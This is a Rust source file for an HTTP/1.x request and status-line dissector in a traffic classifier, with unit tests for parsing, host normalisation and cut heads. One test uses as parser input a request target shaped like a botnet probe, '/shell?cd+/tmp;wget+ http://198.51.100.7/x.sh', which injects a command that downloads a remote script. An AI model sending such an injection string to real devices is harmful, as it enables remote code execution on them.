//! HTTP/1.x requests: method, target, Host and User-Agent from the start of
//! a client's byte stream, on any port.
//!
//! The stream is taken as HTTP when it starts with a request line
//! `METHOD SP target SP HTTP/1.x CRLF` whose method is a token of capital
//! letters (the registered methods and WebDAV's). Headers are read up to
//! the blank line, at most [`MAX_HEAD`] bytes. The Host is lowercased and
//! stored without port or trailing dot; an absolute-form target's
//! authority stands in when there is no Host header.

use super::dissector::{
    Carrier, Confidence, Dissector, Findings, Input, Probe as ProbeAnswer, Probing, Step, Verdict,
};
use super::facts::{Clue, Evidence, Fact};
use super::websocket::{self, Watching};
use super::AppProto;
use crate::bytes::find;
use crate::flow::TO_SERVER;

/// Longest request head read.
pub const MAX_HEAD: usize = 16 * 1024;

/// What a request says.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct HttpRequest {
    pub method: String,
    pub url: String,
    pub version: String,
    pub hostname: Option<String>,
    pub user_agent: Option<String>,
}

/// How far a stream prefix goes towards a request.
#[derive(Debug, PartialEq, Eq)]
pub enum Head {
    /// Not an HTTP request.
    No,
    /// Could be one: more bytes needed.
    NeedMore,
    /// A request head (possibly cut at [`MAX_HEAD`]).
    Request(HttpRequest),
}

const METHODS: &[&str] = &[
    "GET",
    "POST",
    "HEAD",
    "PUT",
    "DELETE",
    "OPTIONS",
    "CONNECT",
    "PATCH",
    "TRACE",
    "PROPFIND",
    "PROPPATCH",
    "MKCOL",
    "COPY",
    "MOVE",
    "LOCK",
    "UNLOCK",
    "REPORT",
    "SEARCH",
    "MKCALENDAR",
    "SUBSCRIBE",
    "NOTIFY",
    "PURGE",
];

/// The space after a known method at the start of `stream`, if there is one.
fn method_end(stream: &[u8]) -> Option<usize> {
    // Every method starts with a capital: most other streams (TLS, SSH,
    // binary protocols) are told at their first byte.
    if !stream.first().is_some_and(u8::is_ascii_uppercase) {
        return None;
    }
    let sp = stream.iter().take(12).position(|&b| b == b' ')?;
    let method = &stream[..sp];
    METHODS.iter().any(|m| m.as_bytes() == method).then_some(sp)
}

/// Can `stream` start a request: a known method and a space, or a prefix of
/// a method's capital letters? (The first look, before any buffering.)
pub fn could_start_request(stream: &[u8]) -> bool {
    if method_end(stream).is_some() {
        return true;
    }
    stream.len() < 12
        && stream.iter().all(u8::is_ascii_uppercase)
        && METHODS.iter().any(|m| m.as_bytes().starts_with(stream))
}

/// Reads a request from the first bytes of a client stream.
pub fn read_request(stream: &[u8]) -> Head {
    read_head(stream, Cut::No, Keep::All, false).0
}

/// What a reading keeps of a request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Keep {
    /// Every field.
    All,
    /// What rules read, its target and Host: the method and version left
    /// empty, no User-Agent (fewer strings made for each request of a
    /// keep-alive stream followed for the rules alone).
    Names,
    /// Nothing: only whether it is a request (a request read before, whose
    /// head and body are to be stepped over).
    Nothing,
}

/// A complete request head at the start of `stream`, read in one pass:
/// the request as [`read_request`] reads the head (with what `keep`
/// says), where the head ends (after its blank line) and how its body is
/// delimited (any `Transfer-Encoding` makes it unknown, else the last
/// `Content-Length` gives it, else there is none). None while the head
/// has no blank line.
pub fn read_complete(stream: &[u8], keep: Keep) -> Option<(Head, usize, Body)> {
    // Most heads end at a CRLF CRLF, found while the head is read.
    if let (head, body, Some(end)) = read_head_at(stream, Cut::No, keep, true) {
        return Some((head, end, body));
    }
    // The others (and streams that start no request) read as the head
    // before their first blank line.
    let end = head_end(stream)?;
    let (head, body) = read_head(&stream[..end], Cut::Whole, keep, true);
    Some((head, end, body))
}

/// Reads a request head that ends without its blank line (the capture or
/// the flow stopped): a request line and at least one complete header line
/// decide, and the head is read as far as its last complete line.
pub fn read_cut_request(stream: &[u8]) -> Option<HttpRequest> {
    match read_head(stream, Cut::May, Keep::All, false).0 {
        Head::Request(r) => Some(r),
        _ => None,
    }
}

/// The request line's target and version: the method's space, then the
/// version after the line's last space; everything between is the target,
/// spaces included (`GET /a b HTTP/1.1` asks for `/a b`, as servers read it).
fn split_request_line(line: &[u8], sp: usize) -> Option<(&[u8], &[u8])> {
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    // Backwards at vector speed: the target between may be long.
    let last = memchr::memrchr(b' ', line)?;
    if last <= sp {
        return None;
    }
    let target = trim(&line[sp + 1..last]);
    let version = &line[last + 1..];
    (version.starts_with(b"HTTP/1.") && !target.is_empty()).then_some((target, version))
}

/// Where a request head's bytes end, as far as its reader knows.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Cut {
    /// The head ends with its blank line (a prefix of the stream).
    No,
    /// It may end without its blank line (the capture or flow stopped).
    May,
    /// The bytes are the whole head, blank line included (its end was
    /// found already).
    Whole,
}

/// A request head at the start of `stream` (`cut`: where it ends), with
/// what `keep` says; `body`: also how the body after it is delimited
/// (else [`Body::Length`] 0).
fn read_head(stream: &[u8], cut: Cut, keep: Keep, body: bool) -> (Head, Body) {
    let (head, body, _) = read_head_at(stream, cut, keep, body);
    (head, body)
}

/// [`read_head`], and where the head of a request ends when that was
/// found while reading it (a CRLF CRLF; else None).
fn read_head_at(stream: &[u8], cut: Cut, keep: Keep, body: bool) -> (Head, Body, Option<usize>) {
    let none = Body::Length(0);
    let Some(sp) = method_end(stream) else {
        let head = if could_start_request(stream) {
            Head::NeedMore
        } else {
            Head::No
        };
        return (head, none, None);
    };
    let method = &stream[..sp];
    let Some(line_end) = find(stream, b"\r\n").or_else(|| find(stream, b"\n")) else {
        let head = if stream.len() >= MAX_HEAD {
            Head::No
        } else {
            Head::NeedMore
        };
        return (head, none, None);
    };
    let Some((target, version)) = split_request_line(&stream[..line_end], sp) else {
        return (Head::No, none, None);
    };
    let all = keep == Keep::All;
    let names = keep != Keep::Nothing;
    // Only the lines whose names can be one of those read below.
    let wanted = |b: u8| match b.to_ascii_lowercase() {
        b'h' => names,
        b'u' => all,
        b't' | b'c' => body,
        _ => false,
    };
    // Most heads end at a CRLF CRLF: found while their fields are read.
    let (end, found) = match walk(stream, wanted) {
        Walk::Ended(e, found) => (Some(e), Some(found)),
        _ if cut == Cut::Whole => (Some(stream.len()), None),
        Walk::Open if cut == Cut::No && stream.len() < MAX_HEAD => {
            return (Head::NeedMore, none, None);
        }
        // Every line feed was looked at: the stream has no blank line.
        Walk::Open => (None, None),
        Walk::Irregular => (head_end(stream), None),
    };
    let head = match end {
        Some(e) => &stream[..e],
        None if stream.len() >= MAX_HEAD => &stream[..MAX_HEAD],
        None if cut == Cut::May => {
            // Complete lines only, and at least one header line after
            // the request line.
            let end = stream
                .iter()
                .rposition(|&b| b == b'\n')
                .map_or(0, |e| e + 1);
            let head = &stream[..end];
            if !head[line_end..].split(|&b| b == b'\n').any(is_header_line) {
                return (Head::No, none, None);
            }
            head
        }
        None => return (Head::NeedMore, none, None),
    };
    let walked = found.is_some();
    let found = found.unwrap_or_else(|| {
        let mut found = Found::default();
        for line in lines(head) {
            found.note(line.text, wanted);
        }
        found
    });
    let mut req = HttpRequest {
        method: if all { text(method) } else { String::new() },
        url: if names { text(target) } else { String::new() },
        version: if all { text(version) } else { String::new() },
        hostname: found.host.filter(|_| names).map(host_of),
        user_agent: found.user_agent.filter(|_| all).map(text),
    };
    let length = found.length.filter(|_| body).map_or(none, content_length);
    let chunked = body && found.chunked;
    if names && req.hostname.is_none() {
        // Absolute form: http://authority/path
        let t = target;
        if let Some(rest) = t
            .strip_prefix(b"http://")
            .or_else(|| t.strip_prefix(b"https://"))
        {
            let end = rest.iter().position(|&b| b == b'/').unwrap_or(rest.len());
            req.hostname = Some(host_of(&rest[..end]));
        }
    }
    (
        Head::Request(req),
        if chunked { Body::Unknown } else { length },
        end.filter(|_| walked),
    )
}

/// True when a server stream starts with an HTTP/1.x status line
/// (`HTTP/1.x NNN `): a response seen without its request (a capture that
/// starts mid-conversation or sees one direction). `None`: need more bytes.
pub fn is_response(stream: &[u8]) -> Option<bool> {
    const PREFIX: &[u8] = b"HTTP/1.";
    let n = stream.len().min(PREFIX.len());
    if stream[..n] != PREFIX[..n] {
        return Some(false);
    }
    if stream.len() < 13 {
        return None;
    }
    Some(
        matches!(stream[7], b'0' | b'1')
            && stream[8] == b' '
            && stream[9..12].iter().all(u8::is_ascii_digit)
            && stream[12] == b' ',
    )
}

/// How the body after a complete request head is delimited.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Body {
    /// `Content-Length` bytes (0 without one, as a request without either
    /// header has no body).
    Length(u64),
    /// `Transfer-Encoding: chunked`, or a length that does not parse.
    Unknown,
}

/// A `Content-Length` value's body: that many bytes, or unknown if it
/// does not parse.
fn content_length(value: &[u8]) -> Body {
    std::str::from_utf8(value)
        .ok()
        .and_then(|v| v.parse().ok())
        .map_or(Body::Unknown, Body::Length)
}

/// Where a head ends: after its blank line (`CRLF CRLF`, or bare `LF LF`).
fn head_end(stream: &[u8]) -> Option<usize> {
    find(stream, b"\r\n\r\n")
        .map(|e| e + 4)
        .or_else(|| find(stream, b"\n\n").map(|e| e + 2))
}

/// One line of a head after its request or status line: its bytes
/// without the line feed, where it starts, and whether a line feed ended
/// it (the last line of a cut head may have none).
struct Line<'a> {
    text: &'a [u8],
    at: usize,
    ended: bool,
}

/// The lines of `head` after its first.
fn lines(head: &[u8]) -> impl Iterator<Item = Line<'_>> {
    let mut at = memchr::memchr(b'\n', head).map_or(head.len(), |e| e + 1);
    std::iter::from_fn(move || {
        let rest = &head[at..];
        if rest.is_empty() {
            return None;
        }
        let line = match memchr::memchr(b'\n', rest) {
            Some(e) => Line {
                text: &rest[..e],
                at,
                ended: true,
            },
            None => Line {
                text: rest,
                at,
                ended: false,
            },
        };
        at += line.text.len() + usize::from(line.ended);
        Some(line)
    })
}

/// The header fields a reading keeps, as they stand in the head: the
/// first Host and User-Agent, the last Content-Length, and whether a
/// Transfer-Encoding was there.
#[derive(Default)]
struct Found<'a> {
    host: Option<&'a [u8]>,
    user_agent: Option<&'a [u8]>,
    length: Option<&'a [u8]>,
    chunked: bool,
}

impl<'a> Found<'a> {
    /// Header line `line` (a `name: value` whose first byte is `wanted`;
    /// other lines are passed over unread).
    fn note(&mut self, line: &'a [u8], wanted: impl Fn(u8) -> bool) {
        if !line.first().is_some_and(|&b| wanted(b)) {
            return;
        }
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        let Some(colon) = memchr::memchr(b':', line) else {
            return;
        };
        let (name, value) = (&line[..colon], trim(&line[colon + 1..]));
        if name.eq_ignore_ascii_case(b"host") {
            self.host.get_or_insert(value);
        } else if name.eq_ignore_ascii_case(b"user-agent") {
            self.user_agent.get_or_insert(value);
        } else if name.eq_ignore_ascii_case(b"transfer-encoding") {
            self.chunked = true;
        } else if name.eq_ignore_ascii_case(b"content-length") {
            self.length = Some(value);
        }
    }
}

/// How far one pass over a stream's head lines went.
enum Walk<'a> {
    /// The head ends at this offset, after the first CRLF CRLF of the
    /// stream (where [`head_end`] puts it), with the fields before it.
    Ended(usize, Found<'a>),
    /// No blank line yet.
    Open,
    /// A bare LF LF came first: [`head_end`] decides (a CRLF CRLF further
    /// on would still be the end).
    Irregular,
}

/// Reads the lines after the request line until the head's blank line:
/// its fields (those whose first byte is `wanted`) and its end, in one
/// pass instead of a search for the end and a second for the fields.
fn walk(stream: &[u8], wanted: impl Fn(u8) -> bool) -> Walk<'_> {
    let mut found = Found::default();
    for line in lines(stream) {
        if !line.ended {
            break;
        }
        match line.text {
            // CRLF then CRLF: every earlier line feed was looked at, so
            // this is the stream's first.
            b"\r" if line.at >= 2 && stream[line.at - 2] == b'\r' => {
                return Walk::Ended(line.at + 2, found);
            }
            b"" => return Walk::Irregular,
            text => found.note(text, &wanted),
        }
    }
    Walk::Open
}

/// `bytes` as a string: copied as they are when they are UTF-8 (the
/// common case, checked by the fast validator), else with replacement
/// characters.
fn text(bytes: &[u8]) -> String {
    match std::str::from_utf8(bytes) {
        Ok(s) => s.to_owned(),
        Err(_) => String::from_utf8_lossy(bytes).into_owned(),
    }
}

/// `name: value`, the name a token (no spaces, no controls).
fn is_header_line(line: &[u8]) -> bool {
    line.iter()
        .position(|&b| b == b':')
        .is_some_and(|c| c > 0 && line[..c].iter().all(|&b| b.is_ascii_graphic()))
}

fn trim(b: &[u8]) -> &[u8] {
    let s = b
        .iter()
        .position(|c| !c.is_ascii_whitespace())
        .unwrap_or(b.len());
    let e = b
        .iter()
        .rposition(|c| !c.is_ascii_whitespace())
        .map_or(s, |e| e + 1);
    &b[s..e]
}

/// A Host value without port (IPv6 literals keep their brackets' content),
/// lowercase, no trailing dot.
fn host_of(v: &[u8]) -> String {
    let v = trim(v);
    let host = if let Some(rest) = v.strip_prefix(b"[") {
        &rest[..rest.iter().position(|&b| b == b']').unwrap_or(rest.len())]
    } else {
        &v[..v.iter().position(|&b| b == b':').unwrap_or(v.len())]
    };
    let host = host.strip_suffix(b".").unwrap_or(host);
    String::from_utf8_lossy(host).to_lowercase()
}

/// Bytes of a server stream read for a status line.
const STATUS_LINE: usize = 16;

/// One side's reader.
#[derive(Debug, Default)]
enum SideReader {
    /// The side has not started.
    #[default]
    Untried,
    Reading(Vec<u8>),
    Off,
}

/// The HTTP dissector: a request head from the client stream, or a status
/// line from the server's when the client's was not seen.
#[derive(Debug, Default)]
pub struct HttpDissector {
    request: SideReader,
    status: SideReader,
    /// After a WebSocket upgrade request: its answer and first frame.
    websocket: Option<Box<websocket::Watch>>,
    /// The last packet that brought request bytes, and the packet the
    /// client stream started at (for a head cut off, see [`Self::settle`]).
    request_packets: (u64, u64),
}

impl Dissector for HttpDissector {
    const CARRIER: Carrier = Carrier::Stream;
    const PROBING: Probing = Probing::EachSide;

    fn probe(bytes: &[u8], side: usize) -> ProbeAnswer {
        let ok = if side == TO_SERVER {
            could_start_request(bytes)
        } else {
            is_response(&bytes[..bytes.len().min(STATUS_LINE)]) != Some(false)
        };
        if ok {
            ProbeAnswer::Maybe
        } else {
            ProbeAnswer::No
        }
    }

    fn start() -> Self {
        Self::default()
    }

    fn feed(&mut self, input: &Input<'_>) -> Step {
        let bytes = input.bytes;
        if let Some(watch) = self.websocket.as_mut() {
            return match watch.feed(input.side, bytes, input.packet) {
                Watching::More => Step::NeedMore,
                Watching::Done(found) => {
                    self.websocket = None;
                    match found {
                        Some(found) => Step::Facts { found, more: false },
                        None => Step::Refuse,
                    }
                }
            };
        }
        let reader = if input.from_client() {
            &mut self.request
        } else {
            &mut self.status
        };
        if let SideReader::Untried = reader {
            *reader = if input.first && Self::probe(bytes, input.side) != ProbeAnswer::No {
                SideReader::Reading(Vec::new())
            } else {
                SideReader::Off
            };
        }
        let mut step = Step::NeedMore;
        if let SideReader::Reading(buf) = reader {
            if input.from_client() {
                self.request_packets = (input.packet, input.client_from.unwrap_or(input.packet));
                buf.extend_from_slice(
                    &bytes[..bytes.len().min(MAX_HEAD.saturating_sub(buf.len()))],
                );
                match read_request(buf) {
                    Head::NeedMore if buf.len() < MAX_HEAD => {}
                    Head::Request(r) => {
                        let len = buf.len();
                        // A WebSocket upgrade: its answer and first frame
                        // are watched for a tunnel.
                        self.websocket = websocket::upgrade_head(buf).map(|head| {
                            Box::new(websocket::Watch::new(
                                input.packet,
                                head,
                                buf.get(head..).unwrap_or(&[]),
                            ))
                        });
                        let more = self.websocket.is_some();
                        self.request = SideReader::Off;
                        self.status = SideReader::Off;
                        return Step::Verdict(Verdict {
                            proto: AppProto::Http,
                            confidence: Confidence::High,
                            found: Findings {
                                facts: vec![Fact::Http(Box::new(r))],
                                evidence: vec![Evidence {
                                    packet: input.packet,
                                    what: Clue::HttpRequest {
                                        len,
                                        from: input.client_from.unwrap_or(input.packet),
                                    },
                                }],
                                links: Vec::new(),
                            },
                            more,
                        });
                    }
                    _ => self.request = SideReader::Off,
                }
            } else {
                buf.extend_from_slice(
                    &bytes[..bytes.len().min(STATUS_LINE.saturating_sub(buf.len()))],
                );
                match is_response(buf) {
                    None => {}
                    Some(false) => self.status = SideReader::Off,
                    Some(true) => {
                        self.status = SideReader::Off;
                        // Only a verdict when the request was not seen.
                        if input.client_from.is_none() {
                            step = Step::Verdict(Verdict {
                                proto: AppProto::Http,
                                confidence: Confidence::Medium,
                                found: Findings {
                                    facts: Vec::new(),
                                    evidence: vec![Evidence {
                                        packet: input.packet,
                                        what: Clue::HttpStatusLine,
                                    }],
                                    links: Vec::new(),
                                },
                                more: !matches!(self.request, SideReader::Off),
                            });
                        }
                    }
                }
            }
        }
        if matches!(step, Step::NeedMore)
            && matches!(self.request, SideReader::Off)
            && matches!(self.status, SideReader::Off)
        {
            return Step::Refuse;
        }
        step
    }

    /// The flow ends (or is given up) with a request head still open: a
    /// request line and at least one complete header line decide HTTP, the
    /// head read as far as it goes.
    fn settle(&self) -> Option<Verdict> {
        let SideReader::Reading(buf) = &self.request else {
            return None;
        };
        let r = read_cut_request(buf)?;
        let (packet, from) = self.request_packets;
        Some(Verdict {
            proto: AppProto::Http,
            confidence: Confidence::Medium,
            found: Findings {
                facts: vec![Fact::Http(Box::new(r))],
                evidence: vec![Evidence {
                    packet,
                    what: Clue::HttpRequestCut {
                        len: buf.len(),
                        from,
                    },
                }],
                links: Vec::new(),
            },
            more: false,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::wireguard::controls::XorShift;

    /// The request of captures/sample.pcap's first HTTP flow (curl to nginx).
    const GET: &[u8] = b"GET / HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: sift-sample/1.0 (curl)\r\nAccept: */*\r\n\r\n";

    #[test]
    fn request_fields() {
        let Head::Request(r) = read_request(GET) else {
            panic!()
        };
        assert_eq!(
            (r.method.as_str(), r.url.as_str(), r.version.as_str()),
            ("GET", "/", "HTTP/1.1")
        );
        assert_eq!(r.hostname.as_deref(), Some("www.example.test"));
        assert_eq!(r.user_agent.as_deref(), Some("sift-sample/1.0 (curl)"));
    }

    #[test]
    fn every_prefix_needs_more_then_request() {
        for n in 0..GET.len() {
            assert_eq!(
                read_request(&GET[..n]),
                Head::NeedMore,
                "prefix of {n} bytes"
            );
        }
    }

    #[test]
    fn host_normalisation_and_absolute_form() {
        let Head::Request(r) =
            read_request(b"GET / HTTP/1.0\r\nhOsT: WWW.Example.COM.:8080\r\n\r\n")
        else {
            panic!()
        };
        assert_eq!(r.hostname.as_deref(), Some("www.example.com"));
        let Head::Request(r) = read_request(b"GET http://Proxy.Example:3128/x HTTP/1.1\r\n\r\n")
        else {
            panic!()
        };
        assert_eq!(r.hostname.as_deref(), Some("proxy.example"));
        let Head::Request(r) = read_request(b"GET / HTTP/1.1\r\nHost: [2001:db8::1]:80\r\n\r\n")
        else {
            panic!()
        };
        assert_eq!(r.hostname.as_deref(), Some("2001:db8::1"));
    }

    /// Where a head ends and how its body is delimited, read the plain
    /// way, line by line: the reference the one-pass reading is held to.
    fn extent(stream: &[u8]) -> Option<(usize, Body)> {
        let end = (stream
            .windows(4)
            .position(|w| w == b"\r\n\r\n")
            .map(|e| e + 4))
        .or_else(|| stream.windows(2).position(|w| w == b"\n\n").map(|e| e + 2))?;
        let mut body = Body::Length(0);
        let mut chunked = false;
        for line in stream[..end].split(|&b| b == b'\n').skip(1) {
            let line = line.strip_suffix(b"\r").unwrap_or(line);
            let Some(colon) = line.iter().position(|&b| b == b':') else {
                continue;
            };
            let (name, value) = (&line[..colon], &line[colon + 1..]);
            if name.eq_ignore_ascii_case(b"transfer-encoding") {
                chunked = true;
            } else if name.eq_ignore_ascii_case(b"content-length") {
                body = std::str::from_utf8(value)
                    .ok()
                    .and_then(|v| {
                        v.trim_matches(|c: char| c.is_ascii_whitespace())
                            .parse()
                            .ok()
                    })
                    .map_or(Body::Unknown, Body::Length);
            }
        }
        Some((end, if chunked { Body::Unknown } else { body }))
    }

    /// One pass over a complete head: the request as read alone, the
    /// head's end and its body as [`extent`] gives them, each field kept
    /// as asked.
    #[test]
    fn complete_heads_in_one_pass() {
        let heads: [&[u8]; 6] = [
            GET,
            b"POST /p HTTP/1.1\r\nContent-Length: 5\r\nHost: A.test\r\n\r\nhello",
            b"POST /p HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n",
            b"POST /p HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: x\r\n\r\n",
            b"GET http://abs.test/x HTTP/1.0\n\nGET /next HTTP/1.0\r\n\r\n",
            b"GET /x\r\nHost: a\r\n\r\n",
        ];
        for head in heads {
            let (end, body) = extent(head).unwrap();
            let alone = read_request(&head[..end]);
            let (all, at, b) = read_complete(head, Keep::All).unwrap();
            assert_eq!((&all, at), (&alone, end));
            let Head::Request(r) = alone else {
                assert_eq!(alone, Head::No);
                continue;
            };
            assert_eq!(b, body);
            let (Head::Request(n), _, b) = read_complete(head, Keep::Names).unwrap() else {
                panic!()
            };
            assert_eq!((&n.url, &n.hostname, b), (&r.url, &r.hostname, body));
            assert!(n.method.is_empty() && n.user_agent.is_none());
            let (Head::Request(x), _, b) = read_complete(head, Keep::Nothing).unwrap() else {
                panic!()
            };
            assert_eq!((x, b), (HttpRequest::default(), body));
        }
        assert_eq!(
            read_complete(heads[1], Keep::All).map(|(_, e, b)| (e, b)),
            Some((heads[1].len() - 5, Body::Length(5)))
        );
        assert_eq!(
            read_complete(heads[2], Keep::Names).unwrap().2,
            Body::Unknown
        );
        assert_eq!(
            read_complete(heads[3], Keep::Nothing).unwrap().2,
            Body::Unknown
        );
        assert!(read_complete(&GET[..GET.len() - 1], Keep::All).is_none());
    }

    /// Mutated heads: the one-pass reading decides, ends and delimits the
    /// body as reading the head alone and [`extent`] do.
    #[test]
    fn one_pass_agrees_under_mutation() {
        let seed: &[u8] = b"POST http://A.test:8080/p HTTP/1.1\r\nHost: B.test\r\nUser-Agent: u\r\nContent-Length: 12\r\nTransfer-Encoding: x\r\n\r\nGET / HTTP/1.1\r\n\r\n";
        const BYTES: &[u8] = b"\r\n :/0123456789ABCDEFGHTPaehnost-";
        let mut rng = XorShift(0x2545_f491_4f6c_dd1d);
        let mut rnd = move || rng.next();
        let mut requests = 0;
        for _ in 0..30_000 {
            let mut m = seed.to_vec();
            for _ in 0..1 + rnd() % 4 {
                let at = (rnd() as usize) % m.len();
                match rnd() % 3 {
                    0 => m[at] = BYTES[(rnd() as usize) % BYTES.len()],
                    1 => {
                        m.remove(at);
                    }
                    _ => m.insert(at, BYTES[(rnd() as usize) % BYTES.len()]),
                }
            }
            let Some((end, body)) = extent(&m) else {
                assert!(read_complete(&m, Keep::All).is_none());
                continue;
            };
            let alone = read_request(&m[..end]);
            for keep in [Keep::All, Keep::Names, Keep::Nothing] {
                let (head, at, b) = read_complete(&m, keep).unwrap();
                assert_eq!(at, end);
                assert_eq!(
                    std::mem::discriminant(&head),
                    std::mem::discriminant(&alone)
                );
                if let (Head::Request(a), Head::Request(r)) = (&alone, &head) {
                    assert_eq!(b, body, "{:?}", String::from_utf8_lossy(&m));
                    match keep {
                        Keep::All => assert_eq!(a, r),
                        Keep::Names => assert_eq!((&a.url, &a.hostname), (&r.url, &r.hostname)),
                        Keep::Nothing => {}
                    }
                    requests += 1;
                }
            }
        }
        assert!(requests > 10_000, "{requests}");
    }

    #[test]
    fn status_lines() {
        assert_eq!(is_response(b"HTTP/1.1 200 OK\r\n"), Some(true));
        assert_eq!(is_response(b"HTTP/1.0 404 "), Some(true));
        assert_eq!(is_response(b"HTTP/1."), None);
        assert_eq!(is_response(b"HTTP/2 200 OK\r\n"), Some(false));
        assert_eq!(is_response(b"\x16\x03\x03"), Some(false));
    }

    #[test]
    fn target_with_spaces_is_everything_between_method_and_version() {
        let Head::Request(r) = read_request(
            b"GET /shell?cd+/tmp;wget+ http://198.51.100.7/x.sh HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n",
        ) else {
            panic!()
        };
        assert_eq!(r.url, "/shell?cd+/tmp;wget+ http://198.51.100.7/x.sh");
        assert_eq!(r.version, "HTTP/1.1");
        assert_eq!(r.hostname.as_deref(), Some("203.0.113.9"));
        assert_eq!(read_request(b"GET HTTP/1.1\r\n\r\n"), Head::No);
        assert_eq!(read_request(b"GET /a b c\r\n\r\n"), Head::No);
    }

    #[test]
    fn cut_head_needs_a_request_line_and_a_header() {
        let cut = b"GET /a HTTP/1.1\r\nHost: Cut.Example\r\nUser-Agent: par";
        assert_eq!(read_request(cut), Head::NeedMore);
        let r = read_cut_request(cut).unwrap();
        assert_eq!(r.hostname.as_deref(), Some("cut.example"));
        assert_eq!(r.user_agent, None, "an incomplete line is not read");
        assert_eq!(read_cut_request(b"GET /a HTTP/1.1\r\nHost: x"), None);
        assert_eq!(read_cut_request(b"GET /a HTTP/1.1\r\n"), None);
        assert_eq!(
            read_cut_request(b"GET /a HTTP/1.1\r\nno colon here\r\n"),
            None
        );
        let mut d = HttpDissector::start();
        let input = Input {
            bytes: cut,
            side: TO_SERVER,
            packet: 7,
            first: true,
            client_from: Some(7),
            ts: 0,
            links: &[],
            ports: [40000, 80],
            fingerprints: true,
        };
        assert_eq!(d.feed(&input), Step::NeedMore);
        let v = d.settle().unwrap();
        assert_eq!(
            (v.proto, v.confidence),
            (AppProto::Http, Confidence::Medium)
        );
        assert!(matches!(
            v.found.evidence[0].what,
            Clue::HttpRequestCut { len: 51, from: 7 }
        ));
    }

    #[test]
    fn not_http() {
        assert_eq!(read_request(b"\x16\x03\x01\x02\x00"), Head::No);
        assert_eq!(read_request(b"HELLO world\r\n"), Head::No);
        assert_eq!(read_request(b"GET / SIP/2.0\r\n\r\n"), Head::No);
        assert_eq!(read_request(b"SSH-2.0-OpenSSH_9.2\r\n"), Head::No);
    }
}
